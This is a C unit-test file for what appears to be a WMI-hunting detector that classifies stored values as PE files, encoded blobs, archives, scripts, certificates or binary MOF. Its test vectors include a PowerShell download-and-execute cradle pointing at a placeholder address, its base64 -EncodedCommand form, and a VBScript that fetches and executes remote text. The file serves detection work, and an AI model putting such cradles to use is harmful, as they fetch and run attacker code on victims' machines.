/* lib/stash: stored values classified. Every vector is built here: a tiny
 * PE header, base64 and hex of it, gzip and zip headers (never inflated),
 * scripts in clear and encoded, a DER certificate, binary MOF headers,
 * high-entropy text and bytes; then the edges (one marker is not a script,
 * bad base64, every truncation of a PE, the input cap). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "core/hash.h"
#include "wmihunt/stash.h"

/* ---- vector builders ---- */

static uint64_t rng = 0x5EED;
static uint8_t rnd8(void)
{
    rng = rng * 6364136223846793005ull + 1442695040888963407ull;
    return (uint8_t)(rng >> 56);
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)v); put16(p + 2, (uint16_t)(v >> 16)); }

#define PE_SIZE 512
#define PE_LFANEW 0x80

/* A DOS header, stub message, PE header (x64 DLL, 3 sections, console)
 * and noise: what a stored implant starts with. */
static void make_pe(uint8_t *p)
{
    for (size_t i = 0; i < PE_SIZE; i++) p[i] = rnd8();
    memset(p, 0, 0x40);
    p[0] = 'M';
    p[1] = 'Z';
    put32(p + 0x3C, PE_LFANEW);
    memcpy(p + 0x4E, "This program cannot be run in DOS mode.", 39);
    uint8_t *c = p + PE_LFANEW;
    memset(c, 0, 24 + 0xF0);
    memcpy(c, "PE\0\0", 4);
    put16(c + 4, 0x8664);
    put16(c + 6, 3);
    put16(c + 20, 0xF0);
    put16(c + 22, 0x2022); // DLL | executable | large address aware
    put16(c + 24, 0x20B);
    put16(c + 24 + 68, 3);
}

static char *b64(const uint8_t *p, size_t n, size_t wrap)
{
    static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *o = malloc(4 * n / 3 + 8 + (wrap ? 2 * (n / wrap + 2) : 0)), *q = o;
    size_t col = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) | (i + 2 < n ? p[i + 2] : 0);
        *q++ = a[v >> 18 & 63];
        *q++ = a[v >> 12 & 63];
        *q++ = i + 1 < n ? a[v >> 6 & 63] : '=';
        *q++ = i + 2 < n ? a[v & 63] : '=';
        col += 4;
        if (wrap && col >= wrap && i + 3 < n) {
            *q++ = '\r';
            *q++ = '\n';
            col = 0;
        }
    }
    *q = 0;
    return o;
}

static char *hex(const uint8_t *p, size_t n, const char *prefix)
{
    char *o = malloc(2 * n + strlen(prefix) + 1);
    strcpy(o, prefix);
    for (size_t i = 0; i < n; i++) sprintf(o + strlen(prefix) + 2 * i, "%02X", p[i]);
    return o;
}

static void sha_hex(const uint8_t *p, size_t n, char out[65])
{
    wh_sha256 c;
    uint8_t d[32];
    wh_sha256_init(&c);
    wh_sha256_update(&c, p, n);
    wh_sha256_final(&c, d);
    wh_hex(d, 32, out, 0);
}

static wh_stash_result text(const char *s)
{
    wh_stash_result r;
    wh_stash_classify(s, strlen(s), false, &r);
    return r;
}

static wh_stash_result bytes(const uint8_t *p, size_t n)
{
    // An exact-size copy, so ASan sees a read past the value.
    uint8_t *c = malloc(n ? n : 1);
    if (n) memcpy(c, p, n);
    wh_stash_result r;
    wh_stash_classify(c, n, true, &r);
    free(c);
    return r;
}

/* DER TLV with a long-form length when needed. */
static size_t tlv(uint8_t *o, uint8_t tag, const uint8_t *v, size_t n)
{
    size_t h = 0;
    o[h++] = tag;
    if (n < 0x80) {
        o[h++] = (uint8_t)n;
    } else if (n < 0x100) {
        o[h++] = 0x81;
        o[h++] = (uint8_t)n;
    } else {
        o[h++] = 0x82;
        o[h++] = (uint8_t)(n >> 8);
        o[h++] = (uint8_t)n;
    }
    memmove(o + h, v, n);
    return h + n;
}

/* A certificate's shape: SEQ { tbs SEQ { [0] { INT 2 }, INT serial, SEQ {
 * OID }, names and key as noise }, SEQ { OID, NULL }, BIT STRING }. */
static size_t make_cert(uint8_t *out)
{
    static const uint8_t oid[] = {0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x01, 0x0B};
    uint8_t tbs[1024], t[1024], alg[32], sig[300], tmp[1200];
    size_t n = 0, k;
    uint8_t two[] = {0x02, 0x01, 0x02};
    n += tlv(tbs + n, 0xA0, two, 3);
    uint8_t serial[16];
    for (int i = 0; i < 16; i++) serial[i] = rnd8() & 0x7F;
    n += tlv(tbs + n, 0x02, serial, 16);
    k = tlv(alg, 0x30, oid, sizeof oid);
    memcpy(tbs + n, alg, k);
    n += k;
    uint8_t noise[400];
    for (int i = 0; i < 400; i++) noise[i] = rnd8();
    n += tlv(tbs + n, 0x04, noise, 400); // stands in for names, validity and key
    size_t tn = tlv(t, 0x30, tbs, n);
    uint8_t algnull[16];
    memcpy(algnull, oid, sizeof oid);
    algnull[sizeof oid] = 0x05;
    algnull[sizeof oid + 1] = 0;
    size_t an = tlv(alg, 0x30, algnull, sizeof oid + 2);
    uint8_t bits[257];
    bits[0] = 0;
    for (int i = 1; i < 257; i++) bits[i] = rnd8();
    size_t sn = tlv(sig, 0x03, bits, 257);
    memcpy(tmp, t, tn);
    memcpy(tmp + tn, alg, an);
    memcpy(tmp + tn + an, sig, sn);
    return tlv(out, 0x30, tmp, tn + an + sn);
}

/* ---- PE ---- */

static void pe_raw(void **state)
{
    (void)state;
    uint8_t pe[PE_SIZE];
    make_pe(pe);
    wh_stash_result r = bytes(pe, PE_SIZE);
    assert_int_equal(r.content, WH_STASH_PE);
    assert_string_equal(r.type, "pe");
    assert_false(r.known_good);
    assert_int_equal(r.decoded_size, PE_SIZE);
    char h[65];
    sha_hex(pe, PE_SIZE, h);
    assert_string_equal(r.sha256_hex, h);
    assert_non_null(strstr(r.excerpt, "MZ ... PE32+ DLL, x64, console, 3 sections"));
}

static void pe_base64(void **state)
{
    (void)state;
    uint8_t pe[PE_SIZE];
    make_pe(pe);
    char h[65];
    sha_hex(pe, PE_SIZE, h);
    for (size_t wrap = 0; wrap <= 76; wrap += 76) { // one line, and MIME lines
        char *s = b64(pe, PE_SIZE, wrap);
        assert_memory_equal(s, "TVo", 3);
        wh_stash_result r = text(s);
        assert_int_equal(r.content, WH_STASH_PE);
        assert_int_equal(r.encoding, WH_STASH_ENC_BASE64);
        assert_string_equal(r.type, "base64-pe");
        assert_int_equal(r.decoded_size, PE_SIZE);
        assert_string_equal(r.sha256_hex, h);
        assert_non_null(strstr(r.excerpt, "DLL"));
        // The same text stored as a uint8 array.
        wh_stash_result rb = bytes((const uint8_t *)s, strlen(s));
        assert_string_equal(rb.type, "base64-pe");
        assert_string_equal(rb.sha256_hex, h);
        free(s);
    }
}

static void pe_hex(void **state)
{
    (void)state;
    uint8_t pe[PE_SIZE];
    make_pe(pe);
    char h[65];
    sha_hex(pe, PE_SIZE, h);
    const char *prefixes[] = {"", "0x"};
    for (int i = 0; i < 2; i++) {
        char *s = hex(pe, PE_SIZE, prefixes[i]);
        wh_stash_result r = text(s);
        assert_string_equal(r.type, "hex-pe");
        assert_int_equal(r.decoded_size, PE_SIZE);
        assert_string_equal(r.sha256_hex, h);
        free(s);
    }
}

static void pe_chunk_and_lookalikes(void **state)
{
    (void)state;
    uint8_t pe[PE_SIZE];
    make_pe(pe);
    // A first chunk that ends before the PE header: the DOS stub decides.
    char *s = b64(pe, 0x78, 0);
    wh_stash_result r = text(s);
    assert_string_equal(r.type, "base64-pe");
    assert_non_null(strstr(r.excerpt, "PE header not within"));
    free(s);
    // "MZ" and zeros: not a PE.
    uint8_t mz[96] = {'M', 'Z'};
    r = bytes(mz, sizeof mz);
    assert_int_equal(r.content, WH_STASH_NONE);
    // e_lfanew far past the end, no stub: not a PE.
    put32(mz + 0x3C, 0xFFFFFFF0u);
    r = bytes(mz, sizeof mz);
    assert_int_equal(r.content, WH_STASH_NONE);
    // Every truncation of the header bytes: never read past the value.
    for (size_t n = 0; n <= PE_SIZE; n++) {
        r = bytes(pe, n);
        if (n >= 0x80) assert_int_equal(r.content, WH_STASH_PE);
    }
    char *full = b64(pe, PE_SIZE, 0);
    for (size_t n = 0; n <= strlen(full); n++) {
        char *c = malloc(n + 1);
        memcpy(c, full, n);
        wh_stash_classify(c, n, false, &r);
        free(c);
    }
    free(full);
}

/* ---- archives ---- */

static void gzip_and_zip(void **state)
{
    (void)state;
    uint8_t gz[300];
    for (size_t i = 0; i < sizeof gz; i++) gz[i] = rnd8();
    memcpy(gz, "\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03payload.ps1", 22);
    gz[22] = 0;
    char *s = b64(gz, sizeof gz, 0);
    assert_memory_equal(s, "H4sI", 4);
    wh_stash_result r = text(s);
    assert_string_equal(r.type, "base64-gzip");
    assert_non_null(strstr(r.excerpt, "payload.ps1"));
    free(s);
    gz[3] = 0xE0; // reserved flags set: not gzip
    s = b64(gz, sizeof gz, 0);
    r = text(s);
    assert_int_not_equal(r.content, WH_STASH_GZIP);
    free(s);

    uint8_t zip[200];
    for (size_t i = 0; i < sizeof zip; i++) zip[i] = rnd8();
    memcpy(zip, "PK\x03\x04", 4);
    put16(zip + 26, 5);
    put16(zip + 28, 0);
    memcpy(zip + 30, "a.exe", 5);
    s = b64(zip, sizeof zip, 0);
    assert_memory_equal(s, "UEsDB", 5);
    r = text(s);
    assert_string_equal(r.type, "base64-zip");
    assert_non_null(strstr(r.excerpt, "a.exe"));
    free(s);
    r = bytes(zip, sizeof zip);
    assert_string_equal(r.type, "zip");
    put16(zip + 26, 0xFFFF); // a name longer than the value: cut, not overread
    r = bytes(zip, sizeof zip);
    assert_string_equal(r.type, "zip");
}

/* ---- scripts ---- */

static const char cradle[] = "$wc = New-Object System.Net.WebClient; IEX $wc.DownloadString('http://203.0.113.9/a.ps1')";

static void script_clear(void **state)
{
    (void)state;
    wh_stash_result r = text(cradle);
    assert_string_equal(r.type, "script");
    assert_string_equal(r.language, "PowerShell");
    assert_true(r.script_score >= WH_STASH_SCRIPT_MIN_SCORE);
    assert_non_null(strstr(r.excerpt, "New-Object"));
    char h[65];
    sha_hex((const uint8_t *)cradle, strlen(cradle), h);
    assert_string_equal(r.sha256_hex, h);

    r = text("Set o = CreateObject(\"WScript.Shell\")\r\nDim x\r\no.Run \"calc.exe\"\r\n");
    assert_string_equal(r.type, "script");
    assert_string_equal(r.language, "VBScript");
    r = text("var s = new ActiveXObject(\"Shell.Application\"); s.ShellExecute('calc'); x.run('y'); eval(z);");
    assert_string_equal(r.type, "script");
    assert_string_equal(r.language, "JScript");
}

static void script_one_word_is_not(void **state)
{
    (void)state;
    // Descriptions name things; one marker never makes a script.
    assert_int_equal(text("The PowerShell remoting endpoint used by the provider of this class.").content,
                     WH_STASH_NONE);
    assert_int_equal(text("Runs IEX on whatever it is given; see the documentation of the class.").content,
                     WH_STASH_NONE);
    assert_int_equal(text("The iexplore.exe process and the powershellish Execute method of it.").content,
                     WH_STASH_NONE);
}

static void script_encoded(void **state)
{
    (void)state;
    // PowerShell -EncodedCommand: base64 of UTF-16LE.
    size_t n = strlen(cradle);
    uint8_t *u = malloc(2 * n);
    for (size_t i = 0; i < n; i++) {
        u[2 * i] = (uint8_t)cradle[i];
        u[2 * i + 1] = 0;
    }
    char *s = b64(u, 2 * n, 0);
    wh_stash_result r = text(s);
    assert_string_equal(r.type, "base64-script");
    assert_true(r.utf16);
    assert_string_equal(r.language, "PowerShell");
    assert_int_equal(r.decoded_size, 2 * n);
    assert_non_null(strstr(r.excerpt, "DownloadString"));
    free(s);
    // The UTF-16LE text itself in a uint8 array.
    r = bytes(u, 2 * n);
    assert_string_equal(r.type, "script");
    assert_true(r.utf16);
    free(u);
    const char *vbs = "On Error Resume Next\r\nSet x = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nExecute x.responseText\r\n";
    s = b64((const uint8_t *)vbs, strlen(vbs), 0);
    r = text(s);
    assert_string_equal(r.type, "base64-script");
    assert_string_equal(r.language, "VBScript");
    free(s);
}

/* ---- encoded and high-entropy ---- */

static void encoded_and_entropy(void **state)
{
    (void)state;
    uint8_t blob[600];
    for (size_t i = 0; i < sizeof blob; i++) blob[i] = rnd8();
    char *s = b64(blob, sizeof blob, 0);
    wh_stash_result r = text(s);
    assert_string_equal(r.type, "base64");
    assert_int_equal(r.content, WH_STASH_ENCODED);
    assert_int_equal(r.decoded_size, sizeof blob);
    assert_true(r.entropy > WH_STASH_B64_MIN_BITS);
    free(s);
    // Short base64: not yet a hit.
    s = b64(blob, 150, 0);
    assert_int_equal(text(s).content, WH_STASH_NONE);
    free(s);

    static const char printable[] = "!#$%&()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_`abcdefghijklmnopqrstuvwxyz{|}~";
    char t[1501];
    for (size_t i = 0; i < 1500; i++) t[i] = printable[rnd8() % (sizeof printable - 1)];
    t[1500] = 0;
    r = text(t);
    assert_string_equal(r.type, "high-entropy");
    t[WH_STASH_ENTROPY_MIN_LEN - 1] = 0; // one short of the bound
    assert_int_equal(text(t).content, WH_STASH_NONE);

    char prose[2100] = "";
    while (strlen(prose) < 2000) strcat(prose, "The quick brown fox jumps over the lazy dog, again and again. ");
    assert_int_equal(text(prose).content, WH_STASH_NONE);

    uint8_t rb[2048];
    for (size_t i = 0; i < sizeof rb; i++) rb[i] = rnd8();
    r = bytes(rb, sizeof rb);
    assert_string_equal(r.type, "high-entropy");
    r = bytes(rb, WH_STASH_BYTES_MIN_LEN - 1);
    assert_int_equal(r.content, WH_STASH_NONE);
    // GUID lists and plain identifiers are not base64 hits.
    char guids[800] = "";
    while (strlen(guids) < 700) strcat(guids, "6B29FC40-CA47-1067-B31D-00DD010662DA");
    assert_int_equal(text(guids).content, WH_STASH_NONE);
}

/* ---- known-good ---- */

static void certificates(void **state)
{
    (void)state;
    uint8_t der[1200];
    size_t n = make_cert(der);
    wh_stash_result r = bytes(der, n);
    assert_string_equal(r.type, "certificate");
    assert_true(r.known_good);
    char *s = b64(der, n, 0);
    assert_memory_equal(s, "MII", 3);
    r = text(s);
    assert_string_equal(r.type, "base64-certificate");
    assert_true(r.known_good);
    assert_int_equal(r.decoded_size, n);
    // PEM, with its lines.
    char *body = b64(der, n, 64);
    char *pem = malloc(strlen(body) + 80);
    sprintf(pem, "-----BEGIN CERTIFICATE-----\r\n%s\r\n-----END CERTIFICATE-----\r\n", body);
    r = text(pem);
    assert_true(r.known_good);
    free(pem);
    free(body);
    free(s);
    // One byte more than the outer length says: not a certificate.
    der[n] = 0;
    r = bytes(der, n + 1);
    assert_false(r.known_good);
    // A PE behind a certificate-looking start is not let through.
    uint8_t fake[PE_SIZE];
    make_pe(fake);
    memcpy(fake, "\x30\x82\x01\xFC", 4);
    r = bytes(fake, PE_SIZE);
    assert_false(r.known_good);
    // Every truncation: no overread, never known-good.
    for (size_t k = 0; k < n; k++) assert_false(bytes(der, k).known_good);
}

static void binary_mof(void **state)
{
    (void)state;
    uint8_t m[400];
    for (size_t i = 0; i < sizeof m; i++) m[i] = rnd8();
    memcpy(m, "FOMB", 4);
    put32(m + 4, 1);
    put32(m + 8, sizeof m - 16);
    put32(m + 12, 4 * sizeof m);
    m[16] = 'D';
    m[17] = 'S';
    wh_stash_result r = bytes(m, sizeof m);
    assert_string_equal(r.type, "binary-mof");
    assert_true(r.known_good);
    char *s = b64(m, sizeof m, 0);
    r = text(s);
    assert_string_equal(r.type, "base64-binary-mof");
    free(s);
    put32(m + 8, sizeof m); // sizes that do not add up
    assert_false(bytes(m, sizeof m).known_good);
    // Decompressed layout: part one's size, then the flavor block.
    put32(m + 4, 200);
    memcpy(m + 200, "BMOFQUALFLAVOR11", 16);
    r = bytes(m, sizeof m);
    assert_string_equal(r.type, "binary-mof");
    m[205] = 'x';
    assert_false(bytes(m, sizeof m).known_good);
}

/* ---- edges and bounds ---- */

static void edges(void **state)
{
    (void)state;
    wh_stash_result r;
    assert_false(wh_stash_classify(NULL, 100, false, &r));
    assert_int_equal(r.input_size, 0);
    assert_false(wh_stash_classify("", 0, true, &r));
    char s[WH_STASH_MIN_LEN];
    memset(s, 'A', sizeof s);
    assert_false(wh_stash_classify(s, sizeof s - 1, false, &r));
    assert_string_equal(r.type, "none");
    // '=' inside, or a length no base64 can have: not base64.
    uint8_t pe[PE_SIZE];
    make_pe(pe);
    char *b = b64(pe, PE_SIZE, 0);
    b[100] = '=';
    assert_int_not_equal(text(b).content, WH_STASH_PE);
    free(b);
    b = b64(pe, PE_SIZE, 0);
    size_t len = strlen(b);
    b[len - 2] = 0; // drop the padding: still decodes (unpadded base64)
    assert_string_equal(text(b).type, "base64-pe");
    assert_int_equal((len - 3) % 4, 1);
    b[len - 3] = 0; // 4k+1 characters: no base64 has that
    assert_int_not_equal(text(b).content, WH_STASH_PE);
    free(b);
    // Entropy: a constant, two symbols, every byte once.
    assert_true(wh_stash_entropy("aaaa", 4) == 0);
    double e = wh_stash_entropy("abab", 4);
    assert_true(e > 0.999999 && e < 1.000001);
    uint8_t all[256];
    for (int i = 0; i < 256; i++) all[i] = (uint8_t)i;
    e = wh_stash_entropy(all, 256);
    assert_true(e > 7.999999 && e < 8.000001);
    assert_string_equal(wh_stash_content_name(WH_STASH_PE), "pe");
    assert_string_equal(wh_stash_content_name(WH_STASH_CONTENT_COUNT), "?");
}

static void bound_input(void **state)
{
    (void)state;
    // One byte past the input cap: only the cap is looked at, and it says so.
    size_t n = (size_t)WH_STASH_INPUT_MAX + 1;
    uint8_t pe[PE_SIZE];
    make_pe(pe);
    char *b = b64(pe, PE_SIZE, 0);
    char *big = malloc(n);
    memset(big, 'A', n);
    size_t bl = strlen(b) - 4; // whole groups only, so the As continue it
    while (b[bl - 1] == '=') bl--;
    bl -= bl % 4;
    memcpy(big, b, bl);
    wh_stash_result r;
    assert_true(wh_stash_classify(big, n, false, &r));
    assert_true(r.truncated);
    assert_int_equal(r.input_size, n);
    assert_string_equal(r.type, "base64-pe");
    assert_int_equal(r.decoded_size, (uint64_t)WH_STASH_INPUT_MAX / 4 * 3);
    assert_true(wh_stash_classify(big, n - 1, false, &r));
    assert_false(r.truncated);
    free(big);
    free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pe_raw),
        cmocka_unit_test(pe_base64),
        cmocka_unit_test(pe_hex),
        cmocka_unit_test(pe_chunk_and_lookalikes),
        cmocka_unit_test(gzip_and_zip),
        cmocka_unit_test(script_clear),
        cmocka_unit_test(script_one_word_is_not),
        cmocka_unit_test(script_encoded),
        cmocka_unit_test(encoded_and_entropy),
        cmocka_unit_test(certificates),
        cmocka_unit_test(binary_mof),
        cmocka_unit_test(edges),
        cmocka_unit_test(bound_input),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
